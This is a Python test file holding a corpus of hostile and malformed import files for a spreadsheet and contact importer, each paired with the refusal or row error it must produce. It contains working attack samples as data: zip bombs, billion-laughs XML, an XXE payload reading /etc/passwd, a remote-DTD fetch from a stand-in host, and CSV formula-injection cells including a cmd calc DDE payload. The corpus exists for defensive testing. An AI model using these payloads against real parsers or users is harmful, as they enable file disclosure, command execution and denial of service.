"""A corpus of hostile, broken and mislabelled import files, and the outcome each must have.

Each entry writes its file into a directory and says either which refusal it must get
(`refusal`, a substring of FileRefused.reason) or, when the file is readable, which rows
must be rejected (`rejected_rows`: row number → substring of RawRow.error; every other row
must have no error).

Run as `python -m tests.transfer.bad_files CASE PATH` it reads one file and prints the
outcome as JSON with its peak memory and time; test_bad_files runs each case so, in a
process of its own, so one case's memory cannot hide in another's.
"""

from __future__ import annotations

import io
import json
import resource
import struct
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from regulars.transfer.formats import FileRefused, Limits, open_table

MB = 1024 * 1024
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class BadFile:
    name: str
    make: Callable[[Path], Path]
    refusal: str | None
    rejected_rows: dict[int, str] | None = None
    limits: Limits | None = None


# --- helpers -----------------------------------------------------------------------------


def _write(file_name: str, data: bytes) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        path = directory / file_name
        path.write_bytes(data)
        return path

    return make


def _workbook_bytes(rows: list[list[object]] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows or [["Name", "Email"], ["Anna", "anna@example.com"]]:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rezip(source: bytes, replace: dict[str, bytes], *, drop: tuple[str, ...] = ()) -> bytes:
    """A copy of the ZIP with some entries replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            if info.filename in replace or info.filename in drop:
                continue
            new.writestr(info.filename, old.read(info.filename))
        for entry, data in replace.items():
            new.writestr(entry, data)
    return out.getvalue()


def _workbook_with(replace: dict[str, bytes]) -> Callable[[], bytes]:
    return lambda: _rezip(_workbook_bytes(), replace)


def _lazy(file_name: str, build: Callable[[], bytes]) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        path = directory / file_name
        path.write_bytes(build())
        return path

    return make


def _patch_central_sizes(data: bytes, entry: str, *, file_size: int) -> bytes:
    """Forge the uncompressed size the central directory declares for one entry."""
    buffer = bytearray(data)
    needle = b"PK\x01\x02"
    position = buffer.find(needle)
    while position != -1:
        name_length = struct.unpack_from("<H", buffer, position + 28)[0]
        name = bytes(buffer[position + 46 : position + 46 + name_length]).decode()
        if name == entry:
            struct.pack_into("<I", buffer, position + 24, file_size)
            return bytes(buffer)
        position = buffer.find(needle, position + 4)
    raise AssertionError(f"{entry} not in the ZIP")


def _forged_huge() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"x" * 1000)
    return _patch_central_sizes(out.getvalue(), "xl/worksheets/sheet1.xml", file_size=0xFFFFFFF0)


def _forged_ratio() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"x" * 1000)
    return _patch_central_sizes(out.getvalue(), "xl/worksheets/sheet1.xml", file_size=300 * MB)


def _real_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            zeros = bytes(MB)
            for _ in range(50):
                entry.write(zeros)
    return out.getvalue()


def _understated() -> bytes:
    """A real workbook whose sheet inflates to 20 MB while declaring its original size."""
    source = _workbook_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    padded = sheet + b" " * (20 * MB)
    return _patch_central_sizes(
        _rezip(source, {"xl/worksheets/sheet1.xml": padded}),
        "xl/worksheets/sheet1.xml",
        file_size=len(sheet),
    )


def _many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for index in range(20_000):
            archive.writestr(f"xl/media/{index}.bin", b"")
    return out.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"
 uniqueCount="1"><si><t>&lol9;</t></si></sst>"""

XXE_SHEET = b"""<?xml version="1.0"?>
<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>
</sheetData></worksheet>"""

REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE workbook [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
"""


def _with_shared_strings(xml: bytes) -> Callable[[], bytes]:
    """A workbook whose first cell comes from xl/sharedStrings.xml, holding `xml`.

    openpyxl writes inline strings, so the part and its references are added here.
    """

    def build() -> bytes:
        source = _workbook_bytes()
        with zipfile.ZipFile(io.BytesIO(source)) as archive:
            rels = archive.read("xl/_rels/workbook.xml.rels")
            types = archive.read("[Content_Types].xml")
            sheet = archive.read("xl/worksheets/sheet1.xml")
        rels = rels.replace(
            b"</Relationships>",
            b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rId99"/>'
            b"</Relationships>",
        )
        types = types.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        sheet = sheet.replace(
            b'<c r="A1" t="inlineStr"><is><t>Name</t></is></c>', b'<c r="A1" t="s"><v>0</v></c>'
        )
        return _rezip(
            source,
            {
                "xl/_rels/workbook.xml.rels": rels,
                "[Content_Types].xml": types,
                "xl/worksheets/sheet1.xml": sheet,
                "xl/sharedStrings.xml": xml,
            },
        )

    return build


def _with_prolog(entry: str, prolog: bytes) -> Callable[[], bytes]:
    def build() -> bytes:
        source = _workbook_bytes()
        with zipfile.ZipFile(io.BytesIO(source)) as archive:
            xml = archive.read(entry)
        return _rezip(source, {entry: prolog + xml})

    return build


def _truncated_workbook() -> bytes:
    data = _workbook_bytes()
    return data[: len(data) // 2]


def _ole(size: int = 4096) -> bytes:
    return OLE_MAGIC + bytes(size - len(OLE_MAGIC))


def _macro_content_types() -> bytes:
    source = _workbook_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return _rezip(source, {"[Content_Types].xml": types})


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<document/>")
    return out.getvalue()


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", b"hello")
    return out.getvalue()


def _fifty_mb_line(directory: Path) -> Path:
    path = directory / "one-line.csv"
    with path.open("wb") as f:
        block = b"a" * MB
        for _ in range(50):
            f.write(block)
    return path


def _unclosed_quote_long(directory: Path) -> Path:
    path = directory / "unclosed.csv"
    with path.open("wb") as f:
        f.write(b'Name,Note\nAnna,fine\nBob,"this quote never closes\n')
        line = b"Carol,more text that ends up inside Bob's note\n"
        for _ in range(3 * MB // len(line)):
            f.write(line)
    return path


def _vcard(*cards: str) -> bytes:
    return "".join(cards).encode()


GOOD_CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Kowalska;Anna;;;\r\nFN:Anna Kowalska\r\nEND:VCARD\r\n"
BROKEN_CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nthis line has no colon\r\nEND:VCARD\r\n"
PHOTO_LINE = "PHOTO;ENCODING=b;TYPE=JPEG:" + "QUJD" * 200_000
PHOTO_CARD = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Photo;Pat;;;\r\n"
    + "\r\n ".join(PHOTO_LINE[i : i + 74] for i in range(0, len(PHOTO_LINE), 74))
    + "\r\nEND:VCARD\r\n"
)

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(200)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100)


BAD_FILES: list[BadFile] = [
    # --- CSV: quoting and structure
    BadFile(
        "unclosed quote swallowing a long file",
        _unclosed_quote_long,
        "Row 3 is longer than 2,000,000 characters",
    ),
    BadFile(
        "CSV cut short inside a quoted cell",
        _write("truncated.csv", b'Name,Note\nAnna,"fine"\nBob,"this was cut sho'),
        "Row 3 has a quote",
    ),
    BadFile(
        "more cells than headers",
        _write("wide.csv", b"Name,Email\nAnna,a@example.com\nBob,b@example.com,x,y\n"),
        None,
        {3: "4 cells but there are only 2 column headers"},
    ),
    BadFile(
        "trailing empty cells are not extra cells",
        _write("trailing.csv", b"Name,Email\nAnna,a@example.com,,\n"),
        None,
        {},
    ),
    BadFile(
        "a 1 MB cell",
        _write("big-cell.csv", b"Name,Note\nAnna," + b"x" * MB + b"\nBob,short\n"),
        None,
        {2: "The cell in column “Note” is longer than 10,000 characters."},
    ),
    BadFile(
        "a 1 MB quoted cell with line breaks",
        _write("big-quoted.csv", b'Name,Note\nAnna,"' + b"line\n" * 200_000 + b'"\nBob,ok\n'),
        None,
        {2: "longer than 10,000 characters"},
    ),
    BadFile(
        "a 100,000-character header",
        _write("long-header.csv", b"Name," + b"h" * 100_000 + b"\nAnna,x\n"),
        "The header of column 2 is longer than 10,000 characters",
    ),
    BadFile(
        "10,000 columns",
        _write(
            "columns.csv",
            ",".join(f"c{i}" for i in range(10_000)).encode()
            + b"\n"
            + b",".join(b"v" for _ in range(10_000))
            + b"\n",
        ),
        "The file has 10,000 columns; at most 500",
    ),
    BadFile("one 50 MB line without a newline", _fifty_mb_line, "Row 1 is longer than"),
    BadFile(
        "formula-looking cells are only text",
        _write(
            "formulas.csv",
            b'Name,Note\n=1+1,"=HYPERLINK(""http://evil.example"",""click"")"\n'
            b"+cmd|' /C calc'!A0,@SUM(1+1)\n-2+3,ok\n",
        ),
        None,
        {},
    ),
    BadFile(
        "more rows than the limit",
        _write("rows.csv", b"Name\n" + b"".join(b"row%d\n" % i for i in range(10))),
        "more than 5 rows",
        limits=Limits(max_rows=5),
    ),
    BadFile(
        "bigger than max_bytes",
        _write("big.csv", b"Name\n" + b"Anna\n" * 1000),
        "over the limit of 1,000 bytes",
        limits=Limits(max_bytes=1000),
    ),
    # --- CSV: encodings and bytes
    BadFile(
        "mixed UTF-8 and Windows-1252 lines",
        _write(
            "mixed.csv",
            "Name,City\nJosé,Málaga\n".encode()
            + "Jürgen,Köln\n".encode("cp1252")
            + "Zoë,Zürich\n".encode(),
        ),
        None,
        {},
    ),
    BadFile(
        "Windows-1252 with bytes it leaves undefined",
        _write("cp1252.csv", b"Name,Note\nAnna,\x81\x8d\x80 50\n"),
        None,
        {},
    ),
    BadFile(
        "NUL bytes in a UTF-8 CSV",
        _write("nul.csv", b"Name,Email\nAnna,a@exa\x00mple.com\n"),
        "contains NUL bytes",
    ),
    BadFile(
        "NUL bytes far into the file",
        _write("late-nul.csv", b"Name\n" + b"Anna\n" * 100_000 + b"B\x00b\n"),
        "contains NUL bytes",
    ),
    BadFile(
        "control bytes named .csv",
        _write("controls.csv", bytes(range(1, 9)) * 500),
        "is not a text file",
    ),
    BadFile(
        "binary with NULs named .csv",
        _write("binary.csv", bytes(range(256)) * 64),
        "is not a text file",
    ),
    BadFile("empty file", _write("empty.csv", b""), "The file is empty"),
    BadFile("whitespace only", _write("blank.csv", b" \r\n\t\n  \n"), "The file is empty"),
    BadFile("UTF-8 BOM only", _write("bom.csv", b"\xef\xbb\xbf"), "The file is empty"),
    BadFile("UTF-16 BOM only", _write("bom16.csv", b"\xff\xfe"), "The file is empty"),
    BadFile(
        "headers only",
        _write("headers.csv", b"Name,Email\r\n"),
        "column headers but no rows",
    ),
    BadFile(
        "headers then blank lines",
        _write("headers-blank.csv", b"Name,Email\n\n,\n  \n"),
        "column headers but no rows",
    ),
    # --- wrong extensions: content decides
    BadFile("PDF named .csv", _write("contacts.csv", PDF), "This is a PDF, not a spreadsheet"),
    BadFile("PNG named .xlsx", _write("contacts.xlsx", PNG), "PNG picture"),
    BadFile(
        "CSV text named .xlsx is read as CSV",
        _write("contacts.xlsx", b"Name,Email\nAnna,a@example.com\n"),
        None,
        {},
    ),
    BadFile(
        "a workbook named .csv is read as a workbook",
        _lazy("contacts.csv", _workbook_bytes),
        None,
        {},
    ),
    BadFile(
        "HTML named .xls",
        _write("export.xls", b"<!DOCTYPE html><html><table><tr><td>x</td></tr></table></html>"),
        "web page (HTML)",
    ),
    BadFile("Word document named .xlsx", _lazy("contacts.xlsx", _docx), "Word document"),
    # --- Excel: old formats and encryption
    BadFile("old .xls (OLE)", _write("old.xls", _ole()), "old Excel .xls format"),
    BadFile(
        "password-protected workbook (OLE container)",
        _write("secret.xlsx", _ole(8192)),
        "password-protected",
    ),
    # --- Excel: ZIP attacks
    BadFile(
        "zip bomb: forged huge declared size",
        _lazy("bomb.xlsx", _forged_huge),
        "unpacks to",
    ),
    BadFile(
        "zip bomb: forged ratio",
        _lazy("bomb-ratio.xlsx", _forged_ratio),
        "zip bomb",
    ),
    BadFile("zip bomb: 50 MB of zeros", _lazy("zeros.xlsx", _real_bomb), "zip bomb"),
    BadFile(
        "ZIP whose entry is bigger than it declares",
        _lazy("understated.xlsx", _understated),
        "damaged or incomplete",
    ),
    BadFile("ZIP with 20,000 entries", _lazy("many.xlsx", _many_entries), "20,001 parts"),
    BadFile("truncated workbook", _lazy("half.xlsx", _truncated_workbook), "damaged or incomplete"),
    BadFile("ZIP that is not a workbook", _lazy("x.xlsx", _plain_zip), "ZIP archive, not an Excel"),
    # --- Excel: hostile content
    BadFile(
        "external links",
        _lazy(
            "links.xlsx",
            _workbook_with({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        ),
        "external links",
    ),
    BadFile(
        "macros: vbaProject.bin in an .xlsm",
        _lazy("macro.xlsm", _workbook_with({"xl/vbaProject.bin": b"\x00" * 64})),
        "contains macros",
    ),
    BadFile(
        "macros: content type only, named .xlsx",
        _lazy("macro.xlsx", _macro_content_types),
        "contains macros",
    ),
    BadFile(
        "billion laughs in sharedStrings.xml",
        _lazy("laughs.xlsx", _with_shared_strings(BILLION_LAUGHS)),
        "XML features that can be used to attack",
    ),
    BadFile(
        "XXE in a worksheet",
        _lazy("xxe.xlsx", _workbook_with({"xl/worksheets/sheet1.xml": XXE_SHEET})),
        "XML features that can be used to attack",
    ),
    BadFile(
        "remote DTD parameter entity in workbook.xml",
        _lazy("dtd.xlsx", _with_prolog("xl/workbook.xml", REMOTE_DTD)),
        "XML features that can be used to attack",
    ),
    BadFile(
        "shared strings used normally",
        _lazy(
            "strings.xlsx",
            _with_shared_strings(
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                b'count="1" uniqueCount="1"><si><t>Name</t></si></sst>'
            ),
        ),
        None,
        {},
    ),
    # --- vCard
    BadFile(
        "a broken contact among good ones",
        _write("some.vcf", _vcard(GOOD_CARD, BROKEN_CARD, GOOD_CARD)),
        None,
        {3: "Contact 2 could not be read"},
    ),
    BadFile(
        "last contact without END:VCARD",
        _write("cut.vcf", _vcard(GOOD_CARD, GOOD_CARD.replace("END:VCARD\r\n", ""))),
        None,
        {3: "Contact 2 is cut off"},
    ),
    BadFile(
        "the only contact without END:VCARD",
        _write("one-cut.vcf", _vcard(GOOD_CARD.replace("END:VCARD\r\n", ""))),
        "Contact 1 is cut off",
    ),
    BadFile(
        "a vCard whose every contact is broken",
        _write("broken.vcf", _vcard(BROKEN_CARD, BROKEN_CARD)),
        "No contact in this vCard file could be read",
    ),
    BadFile(
        "a contact with a 3 MB photo",
        _write("photo.vcf", _vcard(GOOD_CARD, PHOTO_CARD)),
        None,
        {},
    ),
    BadFile(
        "binary named .vcf", _write("contacts.vcf", bytes(range(256)) * 64), "is not a text file"
    ),
    BadFile(
        "binary after BEGIN:VCARD",
        _write("nul.vcf", b"BEGIN:VCARD\r\n" + bytes(range(256)) * 8),
        "is not a text file",
    ),
]


def _peak_mb() -> float:
    """Peak resident memory of this process. VmHWM belongs to this program alone;
    ru_maxrss would also count the test runner this process was forked from."""
    status = Path("/proc/self/status")
    if status.exists():
        for line in status.read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux


def read_case(name: str, path: Path) -> dict[str, object]:
    """Open and read the whole file as the import would; the outcome, memory and time."""
    case = next(case for case in BAD_FILES if case.name == name)
    limits = case.limits or Limits()
    started = time.monotonic()
    refusal: str | None = None
    errors: dict[int, str] = {}
    try:
        table = open_table(path, name=path.name, limits=limits)
        for row in table.rows():
            if row.error is not None:
                errors[row.number] = row.error
    except FileRefused as refused:
        refusal = refused.reason
    return {
        "refusal": refusal,
        "errors": errors,
        "seconds": time.monotonic() - started,
        "peak_mb": _peak_mb(),
    }


if __name__ == "__main__":
    print(json.dumps(read_case(sys.argv[1], Path(sys.argv[2]))))
